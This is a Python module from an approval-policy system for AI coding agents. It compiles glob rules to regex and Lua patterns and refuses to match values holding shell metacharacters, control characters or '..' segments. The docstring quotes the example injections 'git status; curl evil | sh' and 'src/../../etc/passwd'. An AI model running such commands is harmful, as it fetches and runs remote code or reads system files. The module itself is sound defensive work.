"""The glob patterns a policy rule matches action names and parameter values with.

A rule may say `when: {action: claude-code.Bash, params: {command: ["git status*"]}}`: `*`
is any run of characters, everything else is itself (case-sensitive, `?` included: Redis's
Lua counts bytes, Python characters, so a one-character wildcard would disagree on non-ASCII
text), and the pattern must match the whole value. The same pattern is matched in two places that must
agree: in Python (`hitl.policy.RuleMatch`) and in the CREATE script in Redis, which routes
every request, so each pattern is compiled to both a regular expression and a Lua pattern
here, once, when the policy is published.

A parameter pattern matches **plain** values only. The agent writes the parameters, so a
pattern meant to let `git status` through must not also let `git status; curl evil | sh`
through, nor `src/*` let `src/../../etc/passwd` through: a value with a control character
(a newline included), a shell metacharacter (one of ``UNSAFE``) or a `..` path segment, a
value that is not a string, and one longer than `MAX_VALUE` characters never match, so such
a request falls through to the next rule or the defaults (gate them). Lengths are in bytes
of UTF-8, as Redis counts them. The bounds on
wildcards and length keep the matcher linear enough to run inside Redis.
"""

from __future__ import annotations

import re
from functools import lru_cache
from typing import Any, TypeGuard

# Characters that chain, substitute or redirect commands in a shell.
UNSAFE = ";&|<>$`(){}"
# Longest pattern, most wildcards in one, longest value a pattern can match.
MAX_PATTERN = 200
MAX_WILDCARDS = 4
MAX_VALUE = 4096
# Lua's magic characters, escaped with % in a Lua pattern.
_LUA_MAGIC = set("^$()%.[]*+-?")
_UNSAFE_RE = re.compile("[\x00-\x1f\x7f" + re.escape(UNSAFE) + "]")


def check(pattern: str) -> str:
    """The pattern, or ValueError saying what is wrong with it (shown by `hitl policy check`)."""
    if not isinstance(pattern, str) or not pattern:
        raise ValueError("a pattern is a non-empty string")
    if len(pattern.encode()) > MAX_PATTERN:
        raise ValueError(f"a pattern is at most {MAX_PATTERN} characters")
    if pattern.count("*") > MAX_WILDCARDS:
        raise ValueError(f"a pattern has at most {MAX_WILDCARDS} '*'")
    if _UNSAFE_RE.search(pattern):
        raise ValueError(f"a pattern cannot contain control characters or any of {UNSAFE} "
                         "(values holding them never match)")
    return pattern


@lru_cache(maxsize=1024)
def regex(pattern: str) -> re.Pattern[str]:
    """The pattern as a regular expression matched against the whole value."""
    return re.compile("".join(".*" if c == "*" else re.escape(c) for c in pattern), re.DOTALL)


def lua(pattern: str) -> str:
    """The pattern as an anchored Lua pattern (for `string.find` in the CREATE script)."""
    body = "".join(".*" if c == "*" else "%" + c if c in _LUA_MAGIC else c for c in pattern)
    return f"^{body}$"


def plain(value: Any) -> TypeGuard[str]:
    """Whether a parameter value is one a pattern may match at all (see the module's doc)."""
    if not isinstance(value, str) or len(value.encode()) > MAX_VALUE or _UNSAFE_RE.search(value):
        return False
    return "/../" not in f"/{value}/"


def matches(patterns: list[str], value: str) -> bool:
    return any(regex(p).fullmatch(value) for p in patterns)
